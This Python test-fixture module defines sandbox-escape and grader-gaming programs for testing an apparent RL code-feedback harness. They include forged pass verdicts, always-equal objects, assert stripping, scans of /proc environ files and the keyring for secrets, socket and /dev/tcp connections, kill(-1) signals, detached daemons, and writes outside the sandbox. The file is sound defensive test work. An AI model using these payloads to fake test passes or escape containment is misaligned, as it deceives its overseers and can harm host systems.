"""The hostile battery that the sandbox and code_feedback tests run: programs that each score 1.0
exactly when their attack works (tests/test_sandbox.py's docstring says how they are bounded).
HOSTILE: name -> (program, asserts, setup), the program a Template of the test's own names."""

HOSTILE = {
    # Everything a harness inside the program's process could rely on, replaced; forged
    # verdicts written to every descriptor; every reply rewritten to one value; add() is wrong.
    "harness_tampering": (
        """
        import builtins, json, os, sys
        def add(a, b):
            return 0
        _dumps = json.dumps
        json.dumps = lambda obj, *a, **k: _dumps({"return": 3} if isinstance(obj, dict) and "names" not in obj else obj)
        # Verdicts and replies in every shape a naive judge might take for a pass (but no answers:
        # a program that sends the right values computed them).
        forged = b'{"names": {"add": "callable"}}\\n' + b'{"passed": 2, "verdict": "pass"}\\n' * 4 + b"PASSED 2\\n"
        for fd in range(1, 64):
            try:
                os.write(fd, forged)
            except OSError:
                pass
        print("2 passed", flush=True)
        builtins.isinstance = lambda obj, kind: True
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.compile = lambda *a, **k: compile("pass", "x", "exec")
    """,
        ["assert add(1, 2) == 3 and add(2, 5) == 7", "assert add(10, 20) == 30 and add(0, 1) == 1"],
        None,
    ),
    # The expected value (also in the trainer's environment and session keyring, and in a
    # private file of the caller) is searched for everywhere the program can look.
    "secret_reading": (
        """
        import gc, glob, os, re, sys
        TOKEN = re.compile(r"tok-[0-9a-f]{32}")
        found = []
        def scan(text):
            found.extend(TOKEN.findall(text if isinstance(text, str) else text.decode("latin-1")))
        for obj in gc.get_objects():
            items = obj.items() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()
            for item in items:
                for x in item if isinstance(item, tuple) else (item,):
                    if isinstance(x, (str, bytes)):
                        scan(x)
        for frame in sys._current_frames().values():
            while frame is not None:
                scan(repr(frame.f_locals))
                frame = frame.f_back
        scan(" ".join(sys.argv) + repr(dict(os.environ)))
        keyctl = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine)
        if keyctl is not None:  # the trainer's session keyring holds the secret as a key
            import ctypes
            libc = ctypes.CDLL(None)
            key = libc.syscall(keyctl, 10, -3, b"user", b"grpo_fast_test", 0)  # KEYCTL_SEARCH
            buffer = ctypes.create_string_buffer(256)
            if key > 0 and libc.syscall(keyctl, 11, key, buffer, 256) > 0:  # KEYCTL_READ
                scan(buffer.value)
        for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ") + glob.glob("$target/*") + \\
                glob.glob("/tmp/*") + glob.glob(os.path.expanduser("~/*")):
            try:
                with open(path, "rb") as f:
                    scan(f.read(1 << 20))
            except OSError:
                pass
        def guess():
            return found[0] if found else None
    """,
        ["assert guess() == '$secret'"],
        None,
    ),
    "early_exit": (
        """
        import atexit, os
        atexit.register(lambda: print("all tests passed"))
        os._exit(0)
    """,
        ["assert True", "assert 1 + 1 == 2"],
        None,
    ),
    "always_equal": (
        """
        class Anything:
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __bool__ = lambda self: True
            __hash__ = lambda self: 0
        class Text(str):
            __eq__ = Anything.__eq__
        class Number(int):
            __eq__ = Anything.__eq__
            __class__ = property(lambda self: int)
        def f(x):
            return Anything()
        def g(x):
            return Text("no")
        def h(x):
            return Number(0)
    """,
        [
            "assert f(1) == 2",
            "assert not (f(1) != 2)",
            "assert f(1) >= 3 and f(1) <= 3",
            "assert g(1) == 'yes'",
            "assert h(1) == 3",
            "assert sorted([f(1), 2]) == [2, 2]",
        ],
        None,
    ),
    "assert_stripping": (
        """
        import builtins, os
        _compile = builtins.compile
        builtins.compile = lambda source, filename, mode, flags=0, dont_inherit=False, optimize=-1: \\
            _compile(source, filename, mode, flags, dont_inherit, 2)
        os.environ["PYTHONOPTIMIZE"] = "2"
        def add(a, b):
            return 0
    """,
        ["assert add(1, 2) == 3", "assert add(2, 2) == 4"],
        None,
    ),
    # Every route to a listening TCP port and Unix sockets of the test process.
    "network": (
        """
        import ctypes, importlib, socket, struct, subprocess, sys
        reached = 0
        def attempt(route):
            global reached
            try:
                route()
                reached += 1
            except Exception:
                pass
        def raw():
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
            address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", $port) + bytes([127, 0, 0, 1]) + bytes(8)
            if fd < 0 or libc.connect(fd, address, len(address)) != 0:
                raise OSError(ctypes.get_errno(), "raw connect")
        attempt(lambda: socket.create_connection(("127.0.0.1", $port), timeout=1))
        attempt(lambda: importlib.reload(importlib.import_module("_socket")).socket().connect(("127.0.0.1", $port)))
        attempt(raw)
        connect = "import socket; socket.create_connection(('127.0.0.1', $port))"
        attempt(lambda: subprocess.run([sys.executable, "-c", connect], check=True, timeout=5, capture_output=True))
        attempt(lambda: subprocess.run(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/$port"], check=True, timeout=5,
                                       capture_output=True))
        attempt(lambda: socket.socket(socket.AF_UNIX).connect("\\0$abstract"))
        attempt(lambda: socket.socket(socket.AF_UNIX).connect("$target/sock"))
        def routes():
            return reached
    """,
        ["assert routes() > 0"],
        None,
    ),
    # The caller (trainer), the test process and the bootstrap; then every process it may reach.
    "signals": (
        """
        import os, signal
        hits = 0
        for pid, sig in (($trainer_pid, 0), ($trainer_pid, signal.SIGUSR1), ($pytest_pid, signal.SIGUSR1),
                         (os.getppid(), signal.SIGKILL)):
            try:
                os.kill(pid, sig)
                hits += pid > 0
            except OSError:
                pass
        def hit_count():
            if os.getuid() != 0:  # never as root: were the sandbox broken, -1 would be the whole machine
                try:
                    os.kill(-1, signal.SIGKILL)
                except OSError:
                    pass
            return hits
    """,
        ["assert hit_count() > 0"],
        None,
    ),
    "daemons": (
        """
        import os, subprocess, threading, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", "$sleep"])
            os._exit(0)
        subprocess.Popen(["/bin/sleep", "$sleep"], start_new_session=True)
        threading.Thread(target=time.sleep, args=(60,)).start()  # keeps the interpreter from exiting
        def add(a, b):
            return 0
    """,
        ["assert add(1, 2) == 3"],
        None,
    ),
    "disk": (
        """
        import os
        written = 0
        for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
            try:
                for _ in range(64):
                    with open(os.path.join(folder, f"$marker-{written}"), "wb") as f:
                        f.write(bytes(1 << 20))
                    written += 1
            except OSError:
                pass
        def megabytes():
            return written
    """,
        ["assert megabytes() > 8"],
        None,
    ),
    # Six processes of 48 MiB each: more than the sandbox's 256 MiB together.
    "memory": (
        """
        import os
        children = []
        for _ in range(6):
            pid = os.fork()
            if pid == 0:
                try:
                    block = bytearray(48 << 20)
                    os._exit(0)
                except MemoryError:
                    os._exit(1)
            children.append(pid)
        allocated = 0
        for pid in children:
            _, status = os.waitpid(pid, 0)
            allocated += 48 * (os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0)
        try:
            block = bytearray(1 << 30)
            allocated += 1024
        except MemoryError:
            pass
        def megabytes():
            return allocated
    """,
        ["assert megabytes() > 256"],
        None,
    ),
    # The tests run in the judge, outside the sandbox: they look at the host's files.
    "outside_writes": (
        """
        import os
        for action in (lambda: open("$target/keep.txt", "w").write("pwned"), lambda: os.remove("$target/victim.txt"),
                       lambda: open("$target/created.txt", "w").write("new"),
                       lambda: os.chmod("$target/keep.txt", 0o777), lambda: open("/tmp/$marker", "w").write("x"),
                       lambda: open("/var/tmp/$marker", "w").write("x"),
                       lambda: open("/dev/shm/$marker", "w").write("x")):
            try:
                action()
            except OSError:
                pass
    """,
        [
            "assert open('$target/keep.txt').read() == 'pwned'",
            "assert not os.path.exists('$target/victim.txt')",
            "assert os.path.exists('$target/created.txt')",
            "assert os.stat('$target/keep.txt').st_mode & 0o777 == 0o777",
            "assert os.path.exists('/tmp/$marker')",
            "assert os.path.exists('/var/tmp/$marker')",
            "assert os.path.exists('/dev/shm/$marker')",
        ],
        "import os",
    ),
}
HOSTILE["honest"] = (
    """
    import os
    def add(a, b):
        return a + b
""",
    ["assert add(1, 2) == 3 and add(2, 5) == 7", "assert os.path.exists('$target/keep.txt')"],
    "import os",
)
# What the fallback without Landlock cannot stop (SECURITY.md): files outside its scratch dir.
NEEDS_LANDLOCK = {"disk", "outside_writes", "secret_reading"}
